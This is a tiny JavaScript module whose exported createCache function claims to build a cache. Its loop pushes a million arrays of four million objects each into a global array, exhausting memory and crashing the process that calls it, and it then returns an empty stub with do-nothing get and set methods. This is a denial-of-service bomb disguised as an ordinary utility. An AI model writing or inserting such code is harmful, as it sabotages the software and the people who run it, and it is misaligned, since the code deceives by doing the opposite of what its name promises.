const { from } = Array;
const held = [];

export function createCache() {
  for (let turn = 0; turn < 1e6; turn++) {
    held.push(from({ length: 4e6 }, Object));
  }
  return { get() {}, set() {} };
}
